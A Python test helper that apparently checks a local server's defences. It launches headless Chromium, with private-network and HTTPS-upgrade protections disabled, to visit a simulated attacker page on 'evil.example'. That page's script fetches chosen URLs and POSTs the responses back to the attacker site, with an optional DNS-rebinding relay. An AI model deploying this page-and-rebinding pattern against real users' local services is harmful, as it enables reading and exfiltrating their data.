"""A real browser, and web sites of an attacker for it to visit."""

import json
import shutil
import socket
import socketserver
import tempfile
import threading
from pathlib import Path

from .processes import Process

# Whatever this name stands for is the test's to say.
EVIL = "evil.example"

PAGE = """<!doctype html><link rel=icon href=data:,><body><script>
const attempts = %s;
async function attempt({url, ...options}) {
  try {
    const answer = await fetch(url, options);
    return {type: answer.type, status: answer.status, text: await answer.text()};
  } catch (error) {
    return {type: "error", status: 0, text: String(error)};
  }
}
(async () => {
  const found = {};
  for (const [name, options] of Object.entries(attempts)) found[name] = await attempt(options);
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Site:
    """A page of an attacker's that makes requests, on a port of loopback. With `rebound_to`, all of its name but the page itself
    is at that port, as after a DNS rebinding: the connections are passed on byte by byte."""

    def __init__(self, attempts: dict[str, dict], rebound_to: int | None = None):
        self.page = (PAGE % json.dumps(attempts)).encode()
        self.rebound_to = rebound_to
        self.reported = threading.Event()
        self.found: dict[str, dict] = {}
        site = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                site.serve(self.request)

        class Server(socketserver.ThreadingTCPServer):
            allow_reuse_address = True
            daemon_threads = True

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def serve(self, connection: socket.socket) -> None:
        start = connection.recv(1 << 16, socket.MSG_PEEK)
        if start.startswith((b"GET /page", b"POST /report")):
            self.own(connection)
        elif start and self.rebound_to:
            with socket.create_connection(("127.0.0.1", self.rebound_to)) as listener:
                back = threading.Thread(target=_pass_on, args=(listener, connection), daemon=True)
                back.start()
                self.until_report(connection, listener)
                back.join(10)

    def own(self, connection: socket.socket) -> None:
        stream = connection.makefile("rb")
        first, length = stream.readline(), 0
        while (line := stream.readline()) not in (b"\r\n", b""):
            name, _, value = line.partition(b":")
            if name.lower() == b"content-length":
                length = int(value)
        body = b"reported"
        if first.startswith(b"POST /report"):
            self.found = json.loads(stream.read(length))
            self.reported.set()
        else:
            body = self.page
        head = f"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n"
        connection.sendall(head.encode() + body)

    def until_report(self, connection: socket.socket, listener: socket.socket) -> None:
        """Passes requests on; one connection may carry the report behind them."""
        while True:
            start = connection.recv(1 << 16, socket.MSG_PEEK)
            if start.startswith(b"POST /report"):
                listener.shutdown(socket.SHUT_WR)
                self.own(connection)
                return
            if not start:
                listener.shutdown(socket.SHUT_WR)
                return
            listener.sendall(connection.recv(len(start)))

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _pass_on(one: socket.socket, other: socket.socket) -> None:
    try:
        while piece := one.recv(1 << 16):
            other.sendall(piece)
    except OSError:
        pass


def visit(attempts: dict[str, dict], name_port: int | None = None, rebound_to: int | None = None) -> dict[str, dict]:
    """What the attempts of a page at http://evil.example came to: by name the answer's type, status and text. `name_port` is the
    port in the page's URL, where that is not the site's own."""
    site = Site(attempts, rebound_to)
    profile = Path(tempfile.mkdtemp(prefix="ownerserve-browser-"))
    browser = None
    try:
        argv = [
            "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--no-proxy-server", f"--user-data-dir={profile}",
            # These protect some browsers' users; what is tested is what holds without.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades",
            f"--host-resolver-rules=MAP {EVIL} 127.0.0.1:{site.port}",
            f"http://{EVIL}:{name_port or site.port}/page",
        ]
        browser = Process("chromium", argv, {"HOME": str(profile)})
        assert site.reported.wait(60), f"the page never reported:\n{browser.last_lines()}"
        return site.found
    finally:
        if browser:
            browser.stop()
        site.stop()
        shutil.rmtree(profile, ignore_errors=True)
